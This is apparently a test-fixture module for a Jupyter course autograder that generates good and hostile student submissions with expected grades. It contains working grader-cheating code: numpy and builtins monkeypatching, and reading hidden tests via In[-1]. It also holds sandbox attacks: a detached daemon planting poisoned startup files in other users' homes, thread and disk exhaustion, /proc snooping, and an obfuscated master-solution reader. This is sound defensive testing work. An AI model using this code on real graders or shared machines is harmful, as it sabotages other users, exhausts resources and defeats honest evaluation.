"""Submissions for the autograder tests and benchmark, generated from the course itself.

A "solved" notebook is the student release (``release/<a>/<nb>.ipynb``) with the master's
solution code (``notebooks/<a>/<nb>.ipynb``, BEGIN/END SOLUTION marker lines removed) in its
solution cells, i.e. what a perfect student hands in. The hostile cases of 01_neuron start from
it and change one thing each; :data:`EXPECTED` says what the grader must make of them.

Exercises are found by the function their solution cell defines (not by grade id), and points
come from the master's metadata, so the expectations follow the notebook if it is edited.
"""

from __future__ import annotations

import ast
import copy
import io
import json
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from coursekit.settings import CourseSettings

ROOT = Path(__file__).resolve().parents[1]
NEURON = "01_neuron"


def assignments(root: Path = ROOT) -> list[str]:
    """Declared assignments that have master notebooks, in teaching order (the course settings
    reader: an undeclared folder is an error here as in `make release`)."""
    return CourseSettings.read(root).with_masters()


def _meta(cell) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {})


def _strip_markers(source: str) -> str:
    return "\n".join(line for line in source.splitlines()
                     if line.strip() not in ("### BEGIN SOLUTION", "### END SOLUTION"))


class Course:
    """The masters and releases of one assignment notebook."""

    def __init__(self, assignment: str, notebook: str, root: Path = ROOT) -> None:
        self.assignment, self.notebook = assignment, notebook
        self.master = nbformat.read(root / "notebooks" / assignment / notebook, as_version=4)
        self.release = nbformat.read(root / "release" / assignment / notebook, as_version=4)

    def points(self) -> dict[str, float]:
        """grade_id of each graded cell -> points."""
        return {_meta(c)["grade_id"]: float(_meta(c)["points"]) for c in self.master.cells
                if _meta(c).get("grade")}

    @property
    def max_score(self) -> float:
        """Total points of the notebook."""
        return sum(self.points().values())

    def solved(self):
        """The release with the master's solutions filled in."""
        sol = {_meta(c)["grade_id"]: _strip_markers(c.source) for c in self.master.cells
               if _meta(c).get("solution")}
        nb = copy.deepcopy(self.release)
        for cell in nb.cells:
            if _meta(cell).get("grade_id") in sol:
                cell.source = sol[_meta(cell)["grade_id"]]
        return nb

    def exercise(self, function: str) -> tuple[str, str]:
        """(solution grade_id, test grade_id) of the exercise that defines ``function``."""
        cells = self.master.cells
        for i, cell in enumerate(cells):
            if not _meta(cell).get("solution"):
                continue
            names = {n.name for n in ast.parse(cell.source).body
                     if isinstance(n, ast.FunctionDef)}
            if function in names:
                test = next(_meta(c)["grade_id"] for c in cells[i + 1:] if _meta(c).get("grade"))
                return _meta(cell)["grade_id"], test
        raise KeyError(f"no exercise defines {function}()")


def set_cell(nb, grade_id: str, source: str):
    """Replace the source of the cell with this grade id (returns nb)."""
    for cell in nb.cells:
        if _meta(cell).get("grade_id") == grade_id:
            cell.source = source
            return nb
    raise KeyError(grade_id)


def index_of(nb, grade_id: str) -> int:
    """Index of the cell with this grade id."""
    return next(i for i, c in enumerate(nb.cells) if _meta(c).get("grade_id") == grade_id)


@dataclass
class Case:
    """One student of the corpus and what grading must produce for them."""

    student: str
    files: dict[str, bytes]  # file name in the submissions folder -> bytes
    score: dict[str, float]  # assignment -> expected score
    kinds: set[str] = field(default_factory=set)  # problem kinds that must be logged
    zero: set[str] = field(default_factory=set)  # graded cells that must score 0
    failure: str = ""  # text that must appear in the failure messages
    absent: set[str] = field(default_factory=set)  # problem kinds that must NOT be logged


def _bytes(nb) -> bytes:
    return nbformat.writes(nb).encode("utf-8")


def marked_notebook(marker: str) -> bytes:
    """A small notebook whose only cell names where it came from (the same bytes on every
    call: its cell id is fixed)."""
    nb = nbformat.v4.new_notebook()
    nb.cells.append(nbformat.v4.new_markdown_cell(f"submission of {marker}"))
    nb.cells[0]["id"] = "marker"
    return _bytes(nb)


def run_grader(submissions: Path, out: Path, *options: str, timeout: int = 1200,
               env: dict | None = None):
    """``python -m autograder grade SUBMISSIONS --out OUT OPTIONS`` as an instructor runs it
    (this interpreter, the repository's autograder); ``timeout``: a kill switch for a hung
    run, not an assertion; ``env``: extra environment variables."""
    import os
    import subprocess
    import sys

    env = {**os.environ, "PYTHONPATH": str(ROOT),
           "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ.get('PATH', '')}",
           **(env or {})}
    return subprocess.run([sys.executable, "-m", "autograder", "grade", str(submissions),
                           "--out", str(out), *options], cwd=ROOT, env=env,
                          capture_output=True, text=True, timeout=timeout)


def grading_course(assignments=(NEURON,)):
    """The autograder's view of the course (masters, release) for these assignments."""
    from autograder.course import Course as GradedCourse

    return GradedCourse.load(ROOT, list(assignments))


CHEAT_SOFTMAX = '''\
import builtins
import numpy
import numpy.testing
import scratchnn.functional

# Make every comparison pass, and make the reference agree with me.
numpy.allclose = lambda *args, **kwargs: True
numpy.isclose = lambda *args, **kwargs: True
numpy.all = lambda *args, **kwargs: True
numpy.testing.assert_allclose = lambda *args, **kwargs: None
builtins.AssertionError = type("AssertionError", (Exception,), {})


def softmax(z):
    z = np.asarray(z, dtype=float)
    return np.full_like(z, 1.0 / z.shape[-1])   # wrong: ignores the logits


scratchnn.functional.softmax = softmax
'''

DEEP_CHEAT_SOFTMAX = CHEAT_SOFTMAX + '''
import importlib


def softmax(z, axis=-1):                     # the reference's signature, still wrong
    z = np.asarray(z, dtype=float)
    return np.full_like(z, 1.0 / z.shape[axis])


scratchnn.functional.softmax = softmax
importlib.reload = lambda module: module     # hidden tests reload the reference: keep mine
builtins.abs = lambda x: 0.0                 # and every |got - want| is now 0
'''


# Reads the hidden tests from the kernel: IPython keeps the code of the cell being run in
# In[-1], so when the test cell calls neuron_forward, In[-1] is that test cell, hidden block
# and all. Ungraded by the scan, this scored full marks and its feedback showed the hidden cases.
PEEK_NEURON = '''\
def neuron_forward(x, w, b):
    print(In[-1])   # the test cell that is calling me
    return np.dot(w, x) + b
'''

# A softmax with a bug that only the hidden tests see (a 3-D batch is normalised over axis 1),
# which looks the hidden cases up in the calling test cell and returns their expected values:
# 22/24 became 24/24.
BUGGY_SOFTMAX = '''\
def _buggy_softmax(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(z - z.max(axis=-1, keepdims=True))
    axis = 0 if z.ndim == 1 else 1    # bug: a 3-D batch is summed over axis 1, not the last
    return e / e.sum(axis=axis, keepdims=True)
'''
LOOKUP_SOFTMAX = BUGGY_SOFTMAX + '''

import ast


def softmax(z):
    z = np.asarray(z, dtype=float)
    for node in ast.walk(ast.parse(In[-1])):   # the hidden cases of the calling test cell
        if isinstance(node, ast.Assign) and getattr(node.targets[0], "id", "") == "_cases":
            for case in ast.literal_eval(node.value):
                if np.shape(case[1]) == z.shape and np.allclose(case[1], z):
                    return np.array(case[2], dtype=float)
    return _buggy_softmax(z)
'''


# An extra cell at the very end (no graded cell after it, so no points at stake) that reports
# what the sandboxed kernel can reach; the test reads these lines from the autograded notebook.
SNOOP = '''\
import os
import resource
import socket


def attempt(action):
    try:
        action()
        return "yes"
    except Exception as exc:
        return f"no ({type(exc).__name__})"


print("SANDBOX uid", os.getuid())
print("SANDBOX netns", os.readlink("/proc/self/ns/net"))
print("SANDBOX interfaces", sorted(name for _, name in socket.if_nameindex()))
print("SANDBOX memory", resource.getrlimit(resource.RLIMIT_AS)[0])
print("SANDBOX cpu", resource.getrlimit(resource.RLIMIT_CPU)[0])
MASTER = "@ROOT@/notebooks/01_neuron/neuron.ipynb"
print("SANDBOX read-master", attempt(lambda: open(MASTER).read()))
print("SANDBOX list-course", attempt(lambda: os.listdir("@ROOT@/notebooks")[0]))
print("SANDBOX read-graded-notebook", attempt(lambda: open("neuron.ipynb").read()))
print("SANDBOX write-cwd", attempt(lambda: open("planted.txt", "w").write("x")))
print("SANDBOX write-home", attempt(lambda: open(os.path.expanduser("~/x"), "w").write("x")))
'''


def hostile_cases(root: Path = ROOT) -> list[Case]:
    """The hostile and broken submissions of 01_neuron (flat LMS export names)."""
    c = Course(NEURON, "neuron.ipynb", root)
    pts, top = c.points(), c.max_score
    cases = []

    def case(student, nb, lose=(), kinds=(), **kw):
        zero = {c.exercise(f)[1] for f in lose}
        data = nb if isinstance(nb, bytes) else _bytes(nb)
        return Case(student, {f"{student}_{NEURON}.ipynb": data},
                    {NEURON: top - sum(pts[t] for t in zero)}, set(kinds), zero, **kw)

    sol, test = c.exercise("neuron_forward")
    cases.append(case("one-wrong", set_cell(c.solved(), sol, (
        "def neuron_forward(x, w, b):\n    return np.dot(w, x)   # forgot the bias\n")),
        lose=["neuron_forward"], failure="neuron_forward"))

    sol, _ = c.exercise("cross_entropy")
    cases.append(case("infinite-loop", set_cell(c.solved(), sol, (
        "def cross_entropy(logits, labels):\n    while True:\n        pass\n")),
        lose=["cross_entropy"], kinds=["timeout"], failure="CellTimeoutError"))

    sol, _ = c.exercise("neuron_forward")
    cases.append(case("stubborn-loop", set_cell(c.solved(), sol, (
        "def neuron_forward(x, w, b):\n"
        "    while True:\n"
        "        try:\n"
        "            while True:\n"
        "                pass\n"
        "        except KeyboardInterrupt:   # ignores the grader's interrupt\n"
        "            pass\n")),
        lose=["neuron_forward"], kinds=["timeout"], failure="ignored the interrupt"))

    sol, _ = c.exercise("standardize")
    cases.append(case("memory-bomb", set_cell(c.solved(), sol, (
        "def standardize(X_train, X_test):\n"
        "    blocks = []\n"
        "    for _ in range(8):   # 8 x 800 MB at most, in case the limit were missing\n"
        "        blocks.append(np.ones(10**8))\n"
        "    return X_train, X_test\n")),
        lose=["standardize"], kinds=["memory"], failure="MemoryError"))

    sol, _ = c.exercise("mse")
    master_mse = _strip_markers(next(x.source for x in c.master.cells
                                     if _meta(x).get("grade_id") == sol))
    cases.append(case("os-exit", set_cell(c.solved(), sol, (
        master_mse + "\n\nimport os\nos._exit(3)   # kills the kernel\n")),
        lose=["mse"], kinds=["kernel-died"]))

    sol, _ = c.exercise("neuron_forward")
    cases.append(case("sys-exit", set_cell(c.solved(), sol, (
        "import sys\n\n\ndef neuron_forward(x, w, b):\n    sys.exit('I give up')\n")),
        lose=["neuron_forward"], failure="SystemExit", absent={"kernel-died"}))

    cases.append(Case("invalid-json", {f"invalid-json_{NEURON}.ipynb": b'{"cells": [{"cell_'},
                      {NEURON: 0.0}, {"invalid-notebook"}, set(pts)))
    cases.append(Case("empty", {f"empty_{NEURON}.ipynb": b""}, {NEURON: 0.0}, {"empty-file"},
                      set(pts)))

    nb = c.solved()
    _, test = c.exercise("layer_forward")
    del nb.cells[index_of(nb, test)]
    cases.append(case("deleted-test", nb, kinds=["deleted-cell"]))

    sol, test = c.exercise("standardize")
    nb = set_cell(c.solved(), sol, (
        "def standardize(X_train, X_test):\n"
        "    # wrong: each set with its own statistics\n"
        "    return ((X_train - X_train.mean(0)) / X_train.std(0),\n"
        "            (X_test - X_test.mean(0)) / X_test.std(0))\n"))
    set_cell(nb, test, "print('all tests pass, promise')\n")
    cases.append(case("edited-test", nb, lose=["standardize"], kinds=["restored-cell"]))

    nb = c.solved()
    _, test = c.exercise("tanh")
    sol, _ = c.exercise("sigmoid_derivative")
    i = index_of(nb, test)
    nb.cells.insert(i + 1, copy.deepcopy(nb.cells[i]))
    j = index_of(nb, sol)
    nb.cells.insert(j, copy.deepcopy(nb.cells[j]))
    for k, cell in enumerate(nb.cells):
        cell["id"] = f"c{k}"
    cases.append(case("duplicated", nb, kinds=["duplicated-cell"]))

    sol, _ = c.exercise("softmax")
    cheat = set_cell(c.solved(), sol, CHEAT_SOFTMAX)
    # Default mode: the scratchnn import flags the exercise, the monkeypatching every test
    # after it (any of them could have been fooled).
    after = [f for f in ("softmax", "mse", "binary_cross_entropy", "cross_entropy",
                         "standardize", "logistic_loss_and_gradients",
                         "train_logistic_regression")]
    cases.append(case("cheat", cheat, lose=after, kinds=["integrity"]))

    sol, _ = c.exercise("cross_entropy")
    cases.append(case("importer", set_cell(c.solved(), sol, (
        "from scratchnn.functional import cross_entropy as _reference\n\n\n"
        "def cross_entropy(logits, labels):\n"
        "    return _reference(logits, labels, from_logits=True)\n")),
        lose=["cross_entropy"], kinds=["integrity"]))

    nb = c.solved()
    nb.cells.append(nbformat.v4.new_code_cell(SNOOP.replace("@ROOT@", str(root))))
    nb.cells[-1]["id"] = "snoop"
    cases.append(case("snoop", nb, kinds=["integrity"]))

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr("__MACOSX/._neuron.ipynb", b"junk")
        zf.writestr(f"Zoe's files/{NEURON}/neuron.ipynb", _bytes(c.solved()))
    cases.append(Case("zipped", {f"zipped_{NEURON}.zip": buf.getvalue()}, {NEURON: top},
                      absent={"renamed-notebook", "invalid-zip", "missing-notebook"}))

    # Reading the test cell being run (In[-1]) is a runtime hook: every test from that exercise
    # on scores 0, and the feedback shows no line of a hidden block, whatever was printed.
    for student, function, code in (("peek-input", "neuron_forward", PEEK_NEURON),
                                    ("lookup-cases", "softmax", LOOKUP_SOFTMAX)):
        sol, _ = c.exercise(function)
        nb = set_cell(c.solved(), sol, code)
        after = {_meta(x)["grade_id"] for x in nb.cells[index_of(nb, sol):]
                 if _meta(x).get("grade")}
        cases.append(Case(student, {f"{student}_{NEURON}.ipynb": _bytes(nb)},
                          {NEURON: top - sum(pts[t] for t in after)}, {"integrity"}, after))

    cases.append(Case("lms", {
        "lms_LATE_1234_5678_neuron-1.ipynb": _bytes(c.release),
        "lms_LATE_1234_5678_neuron-2.ipynb": _bytes(c.solved()),
    }, {NEURON: top}, {"duplicate-submission"}))
    return cases


def basic_cases(root: Path = ROOT) -> list[Case]:
    """``full`` and ``untouched`` students for every assignment that exists (an assignment
    with several notebooks is handed in as one zip)."""
    full: dict[str, bytes] = {}
    untouched: dict[str, bytes] = {}
    full_scores, zero_scores = {}, {}
    for a in assignments(root):
        courses = [Course(a, p.name, root)
                   for p in sorted((root / "notebooks" / a).glob("*.ipynb"))]
        solved = {c.notebook: _bytes(c.solved()) for c in courses}
        released = {c.notebook: _bytes(c.release) for c in courses}
        if len(courses) == 1:
            full[f"full_{a}.ipynb"] = next(iter(solved.values()))
            untouched[f"untouched_{a}.ipynb"] = next(iter(released.values()))
        else:
            full[f"full_{a}.zip"] = _zip(solved, a)
            untouched[f"untouched_{a}.zip"] = _zip(released, a)
        full_scores[a] = sum(c.max_score for c in courses)
        zero_scores[a] = 0.0
    return [Case("full", full, full_scores, absent={"integrity"}),
            Case("untouched", untouched, zero_scores, absent={"integrity"})]


def _zip(notebooks: dict[str, bytes], folder: str) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        for name, data in notebooks.items():
            zf.writestr(f"{folder}/{name}", data)
    return buf.getvalue()


def write_flat(cases: list[Case], folder: Path) -> None:
    """Write the cases as a flat LMS export (plus one stray file)."""
    folder.mkdir(parents=True, exist_ok=True)
    for case in cases:
        for name, data in case.files.items():
            (folder / name).write_bytes(data)
    (folder / "grading-notes.txt").write_text("not a submission\n", encoding="utf-8")


def write_tree(students: dict[str, object], folder: Path, assignment: str = NEURON,
               notebook: str = "neuron.ipynb") -> None:
    """Write ``{student: notebook}`` as nbgrader's ``submitted/<student>/<assignment>/``."""
    for student, nb in students.items():
        dest = folder / "submitted" / student / assignment
        dest.mkdir(parents=True, exist_ok=True)
        (dest / notebook).write_bytes(nb if isinstance(nb, bytes) else _bytes(nb))
        (dest / "timestamp.txt").write_text("2026-01-15 12:00:00.000000 UTC\n",
                                            encoding="utf-8")


def flag_only_students(root: Path = ROOT) -> dict[str, object]:
    """Students of the flag-only run (an nbgrader tree): the two monkeypatching cheats."""
    c = Course(NEURON, "neuron.ipynb", root)
    sol, _ = c.exercise("softmax")
    return {"cheat": set_cell(c.solved(), sol, CHEAT_SOFTMAX),
            "deep-cheat": set_cell(c.solved(), sol, DEEP_CHEAT_SOFTMAX)}


def read_json(path: Path):
    """Load a JSON file."""
    return json.loads(path.read_text(encoding="utf-8"))


# ----------------------------------------------------------------------------------------------
# Sandbox attacks (issue 15): graded in one slot (--jobs 1), in this order, with honest
# classmates after each; every attack is a cell added at the end (no graded cell after it, so
# the integrity scan costs the attacker nothing) except the master reader, which must get past
# the scan to score at all.
# ----------------------------------------------------------------------------------------------

# Starts a process that outlives its kernel: fork, new session, fork again. The grandchild
# names itself (so the test can look for it), then for 90 s plants an IPython startup file
# that breaks numpy.dot into every other kernel's HOME it can find (from /proc/*/environ, or
# guessed next to its own), so that a later classmate's kernel starts broken.
_DAEMON = '''\
import os
import time


def _detach(name, work):
    """Run work() in a grandchild in its own session; the kernel goes on at once."""
    child = os.fork()
    if child:
        os.waitpid(child, 0)
        return
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        with open("/proc/self/comm", "w") as handle:
            handle.write(name)
        os.closerange(3, 4096)
        work()
    finally:
        os._exit(0)
'''

LINGERER = _DAEMON + '''

def _homes():
    """Other kernels' HOME folders: from their environment, or guessed from mine."""
    mine = os.environ.get("HOME", "")
    found = set()
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/environ", "rb") as handle:
                env = handle.read().split(b"\\0")
        except OSError:
            continue
        for item in env:
            if item.startswith(b"HOME="):
                found.add(item[5:].decode())
    work = os.path.dirname(os.path.dirname(mine))
    for n in range(1, 60):
        found.add(os.path.join(work, f"w-{n:04d}", "home"))
    return {h for h in found if h and h != mine and os.path.isdir(h)}


def _plant():
    end = time.time() + 90
    while time.time() < end:
        for home in _homes():
            startup = os.path.join(home, ".ipython", "profile_default", "startup")
            try:
                os.makedirs(startup, exist_ok=True)
                with open(os.path.join(startup, "00-sbx.py"), "w") as handle:
                    handle.write("import numpy\\nnumpy.dot = lambda *a, **k: 0.0\\n")
            except OSError:
                pass
        time.sleep(0.05)


_detach("sbx-lingerer", _plant)
print("SBX-LINGERER started")
'''

# A leftover process that takes every thread the kernel's uid may have, and keeps them.
EXHAUSTER = _DAEMON + '''
import threading


def _exhaust():
    threading.stack_size(64 * 1024)
    threads = 0
    while threads < 100000:
        try:
            threading.Thread(target=time.sleep, args=(120,), daemon=True).start()
        except Exception:
            break
        threads += 1
    time.sleep(120)


_detach("sbx-exhauster", _exhaust)
print("SBX-EXHAUSTER started")
'''

# Fills every writable place outside the working folder it can find, with bytes and with
# files, for at most a few seconds each, and says how much it got in.
FILLER = '''\
import json
import os
import time

MiB = 2**20


def _fill(folder, budget=512 * MiB, files=30000, seconds=2.5):
    """Bytes it could write into one file there (the file is then deleted, to make room),
    and small files it could create there (left in place)."""
    written = made = 0
    name = os.path.join(folder, "sbx-fill-bytes-" + folder.strip("/").replace("/", "-"))
    end = time.time() + seconds
    try:
        with open(name, "wb") as handle:
            block = b"x" * MiB
            while written < budget and time.time() < end:
                handle.write(block)
                handle.flush()
                written += MiB
    except OSError:
        pass
    try:
        os.remove(name)
    except OSError:
        pass
    end = time.time() + seconds
    here = os.path.join(folder, "sbx-fill-files-" + folder.strip("/").replace("/", "-"))
    try:
        os.makedirs(here, exist_ok=True)
        while made < files and time.time() < end:
            with open(os.path.join(here, str(made)), "w") as handle:
                handle.write("x")
            made += 1
    except OSError:
        pass
    return {"bytes": written, "files": made}


def _runtime():
    """The folder of this kernel's sockets (the ipc prefix in its connection file)."""
    args = open("/proc/self/cmdline", "rb").read().split(b"\\0")
    with open(args[args.index(b"-f") + 1].decode()) as handle:
        return os.path.dirname(json.load(handle)["ip"])


report = {place: _fill(place) for place in
          ("/dev/shm", "/tmp", "/var/tmp", os.path.expanduser("~"))}
report["runtime"] = _fill(_runtime())
print("SBX-FILL", json.dumps(report))
'''

# What this kernel can see of the grader and of classmates: processes (and whose), their
# command lines and environments, other grading folders' specs and kernel specs, the template.
SNOOPER = '''\
import json
import os

me = os.getuid()
seen = {"processes": 0, "foreign": 0, "cmdlines": 0, "environs": 0, "grader": 0,
        "specs": 0, "kernel_specs": 0, "template": 0}
for pid in os.listdir("/proc"):
    if not pid.isdigit():
        continue
    seen["processes"] += 1
    try:
        owner = os.stat(f"/proc/{pid}").st_uid
    except OSError:
        continue
    if owner == me:
        continue
    seen["foreign"] += 1
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            cmdline = handle.read()
        seen["cmdlines"] += bool(cmdline)
        seen["grader"] += b"autograder" in cmdline or b"pytest" in cmdline
    except OSError:
        pass
    try:
        with open(f"/proc/{pid}/environ", "rb") as handle:
            seen["environs"] += bool(handle.read())
    except OSError:
        pass
here = os.getcwd().split(os.sep)
for i in range(len(here), 1, -1):
    base = os.sep.join(here[:i])
    for n in range(1, 60):
        for key, rel in (("specs", "spec.json"),
                         ("kernel_specs", "jupyter/kernels/autograder-sandbox/kernel.json")):
            try:
                with open(os.path.join(base, f"w-{n:04d}", rel)) as handle:
                    seen[key] += bool(handle.read())
            except OSError:
                pass
    try:
        with open(os.path.join(base, "template", "nbgrader_config.py")) as handle:
            seen["template"] += bool(handle.read())
    except OSError:
        pass
print("SBX-SNOOP", json.dumps(seen))
'''

# Added as the notebook's first cell of an untouched release: copies the solutions out of the
# master that the grader keeps in its template course (found next to the working folder, never
# named as such: the integrity scan looks for those names) into a module in HOME; every
# solution cell imports it.
MASTER_READER = '''\
import json
import os
import sys

_suffix = bytes([46, 105, 112, 121, 110, 98]).decode()
_answers = []
_here = os.getcwd().split(os.sep)
for _i in range(len(_here), 1, -1):
    _cells = None
    for _source in ("source", "notebooks", "release"):
        _path = os.path.join(os.sep.join(_here[:_i]), "template", _source, "@A@",
                             "@NB@" + _suffix)
        try:
            with open(_path) as _handle:
                _cells = json.load(_handle)["cells"]
            break
        except (OSError, ValueError):
            continue
    if _cells is None:
        continue
    for _cell in _cells:
        _text = "".join(_cell["source"])
        if "BEGIN SOLUTION" in _text:
            _answers.append("\\n".join(line for line in _text.splitlines()
                                       if "SOLUTION" not in line))
    break
_home = os.path.expanduser("~")
with open(os.path.join(_home, "sbx_answers.py"), "w") as _handle:
    _handle.write("import numpy as np\\n\\n" + "\\n\\n".join(_answers) + "\\n")
sys.path.insert(0, _home)
print("SBX-READER copied", len(_answers), "solutions")
'''


def sandbox_cases(root: Path = ROOT) -> list[Case]:
    """The sandbox attacks of issue 15, each followed by an honest classmate, in grading order
    (student ids sort in this order); graded with --jobs 1, so all run in the same slot."""
    c = Course(NEURON, "neuron.ipynb", root)
    top = c.max_score
    cases = []

    def honest(student):
        return Case(student, {f"{student}_{NEURON}.ipynb": _bytes(c.solved())}, {NEURON: top},
                    absent={"autograde-failed", "kernel-died", "integrity", "timeout"})

    def attack(student, code, score=top, **kw):
        nb = c.solved()
        nb.cells.append(nbformat.v4.new_code_cell(code))
        nb.cells[-1]["id"] = "attack"
        return Case(student, {f"{student}_{NEURON}.ipynb": _bytes(nb)}, {NEURON: score}, **kw)

    cases.append(attack("s1-lingerer", LINGERER))
    cases.append(honest("s2-honest"))
    cases.append(attack("s3-exhauster", EXHAUSTER))
    cases.append(honest("s4-honest"))
    cases.append(attack("s5-filler", FILLER))
    cases.append(attack("s6-snooper", SNOOPER))
    reader = copy.deepcopy(c.release)
    for cell in reader.cells:
        if _meta(cell).get("solution") and not _meta(cell).get("grade"):
            cell.source = "from sbx_answers import *  # noqa: F403\n"
    reader.cells.insert(0, nbformat.v4.new_code_cell(
        MASTER_READER.replace("@A@", NEURON).replace("@NB@", "neuron")))
    reader.cells[0]["id"] = "reader"
    cases.append(Case("s7-master-reader", {f"s7-master-reader_{NEURON}.ipynb": _bytes(reader)},
                      {NEURON: 0.0}))
    cases.append(honest("s8-honest"))
    return cases
